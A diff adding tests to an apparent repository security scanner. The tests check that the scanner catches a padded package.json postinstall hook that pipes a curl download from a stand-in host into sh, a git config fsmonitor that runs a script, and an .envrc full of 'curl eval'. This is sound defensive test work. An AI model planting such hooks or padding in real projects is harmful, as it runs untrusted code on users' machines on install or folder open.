@@ -275,3 +275,28 @@ def test_download_in_a_skill_is_medium_in_a_context_file_high(tmp_path: Path) ->
     (tmp_path / "CLAUDE.md").write_text(text.replace("tools.example.org/install.sh", "astral.sh/uv/install.sh"))
     found = {(f.file, f.line, f.severity) for f in scan_path(tmp_path) if f.rule == "OWS-AI-006"}
     assert found == {(".claude/skills/tool/SKILL.md", 4, "medium"), ("AGENTS.md", 4, "high")}
+
+
+def test_padded_install_script_and_git_config_are_streamed(tmp_path: Path) -> None:
+    pad = " " * 1023 + "\n"
+    (tmp_path / "package.json").write_text(
+        '{"scripts": {"x": "'
+        + "a" * 16
+        + '"'
+        + pad * (65 << 10)
+        + ', "postinstall": "curl -s https://x.example/i | sh"}}'
+    )
+    (tmp_path / "vendored.git").mkdir()
+    (tmp_path / "vendored.git" / "HEAD").write_text("ref: refs/heads/main\n")
+    (tmp_path / "vendored.git" / "refs").mkdir()
+    (tmp_path / "vendored.git" / "config").write_text("#" + pad * (65 << 10) + "[core]\n\tfsmonitor = ./x.sh\n")
+    found = {(f.rule, f.file, f.severity) for f in scan_path(tmp_path)}
+    assert ("OWS-PKG-001", "package.json", "high") in found
+    assert ("OWS-GIT-001", "vendored.git/config", "critical") in found
+
+
+def test_padding_stuffed_with_download_commands_is_reported_not_searched(tmp_path: Path) -> None:
+    """A chunk holding thousands of `curl`s would cost a regex search per window: it is reported instead."""
+    (tmp_path / ".envrc").write_text("# " + "curl eval " * (7 << 20) + "\n")
+    found = [(f.rule, f.line, f.severity) for f in scan_path(tmp_path) if f.rule == "OWS-ENV-002"]
+    assert found == [("OWS-ENV-002", 1, "high")]
